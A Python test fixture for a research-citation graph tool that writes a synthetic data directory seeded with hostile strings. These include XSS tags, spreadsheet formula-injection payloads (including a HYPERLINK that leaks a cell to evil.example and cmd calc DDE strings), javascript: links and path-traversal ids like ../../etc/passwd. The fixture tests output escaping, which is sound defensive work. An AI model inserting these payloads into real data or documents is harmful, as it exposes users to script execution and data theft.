"""A hand-written data dir whose titles, venues, author names and paper ids are hostile. SYNTHETIC.

Every string is made up to attack a consumer: HTML/JS for the report and hover
texts, spreadsheet formulas for CSV files, markdown for gaps.md, path pieces in
paper ids. Labels come from ordinary words in the titles (CLIP, VQA, X-ray...),
so the co-topic, label and citation graphs all have edges.
"""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd

from medvlm_graph import tables
from medvlm_graph.io import atomic_write_json, write_parquet
from medvlm_graph.paths import DataPaths

XSS = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
MARKDOWN = "**bold** [click](javascript:alert(1)) | cell | `code` _x_ # h ![i](http://evil.example/i.png)"
WEIRD_IDS = ("../../etc/passwd", "a/b", "..", "C:\\windows\\system32", "seed:../../x")
NEEDLES = ("<script", "<img", "onerror=")  # must never appear unescaped where markup is interpreted

TITLES = [
    f"Synthetic CLIP adapter for chest X-ray report generation {XSS}",
    f"{IMG} Synthetic visual question answering on CT with LLaVA",
    FORMULAS[0] + " synthetic SAM segmentation of MRI",
    FORMULAS[1] + " synthetic prompt learning for pathology classification",
    FORMULAS[2] + " synthetic retrieval of dermatology images with CLIP",
    FORMULAS[3] + " synthetic zero-shot GPT-4V evaluation on X-ray VQA",
    MARKDOWN + " synthetic fine-tuning for ultrasound segmentation",
    "Synthetic knowledge-enhanced report generation for chest X-ray",
]
VENUES = [IMG, XSS, "=1+1", "+1", "-1 synthetic venue", "@venue", MARKDOWN, "Synthetic Venue"]
AUTHORS = [XSS, IMG, FORMULAS[0], "@evil author", "-minus author", "=cmd author", MARKDOWN, "Plain Synthetic Author"]
TASKS = ["report_generation", "vqa", "segmentation", "classification", "retrieval", "vqa", "segmentation",
         "report_generation"]


def paper_ids() -> list[str]:
    return [f"{i:040x}" for i in range(1, 4)] + list(WEIRD_IDS)


def write(data_dir: Path) -> DataPaths:
    """Write the seeds list and the fetched layer (papers, citations, authorships, seeds, provenance)."""
    paths = DataPaths(data_dir)
    ids = paper_ids()
    n = len(TITLES)
    seeds = pd.DataFrame({
        "seed_id": [f"h{i:02d}" for i in range(n)],
        "section": TASKS, "task": TASKS, "title": TITLES,
        "url": ["javascript:alert(1)", "https://arxiv.org/abs/2301.00001?<script>", *[None] * (n - 2)],
        "paper_id": ids, "match": ["id"] * n,
    })
    seeds = tables.conform(seeds, "seeds")
    papers = tables.conform(pd.DataFrame({
        "paper_id": ids, "title": TITLES, "venue": VENUES, "year": [2021, 2022, 2022, 2023, 2023, 2024, 2024, 2024],
        "abstract": [f"Synthetic abstract {XSS} {IMG} about CLIP and X-ray." for _ in range(n)],
        "is_seed": [True] * n, "seed_id": list(seeds["seed_id"]), "source": ["s2"] * n,
        "url": ["javascript:alert(1)"] * n,
    }), "papers")
    edges = [(ids[i], ids[j]) for i in range(n) for j in range(n) if i > j and (i + j) % 2 == 1]
    edges += [(ids[7], ids[0]), (ids[6], ids[0]), (ids[5], ids[1])]
    citations = tables.conform(pd.DataFrame({
        "citing_id": [a for a, _ in edges], "cited_id": [b for _, b in edges],
        "is_influential": [True] * len(edges), "intents": [f"methodology;{XSS}"] * len(edges),
        "source": ["references"] * len(edges)}).drop_duplicates(["citing_id", "cited_id"]), "citations")
    authorships = tables.conform(pd.DataFrame({
        "paper_id": [ids[i] for i in range(n) for _ in range(2)],
        "author_id": [f"{(i + k) % n}/../{k}" for i in range(n) for k in range(2)],
        "author_name": [AUTHORS[(i + k) % n] for i in range(n) for k in range(2)],
        "position": [k + 1 for _ in range(n) for k in range(2)]}), "authorships")
    write_parquet(seeds, paths.seed_list)
    for name, df in (("papers", papers), ("citations", citations), ("authorships", authorships), ("seeds", seeds)):
        write_parquet(df, paths.fetched_table(name))
    atomic_write_json(paths.fetched / "provenance.json", {
        "source": "refresh", "finished_at": "2026-01-01T00:00:00+00:00", "api_url": "http://127.0.0.1:9/graph/v1",
        "complete": True, "note": json.dumps(XSS)})
    return paths
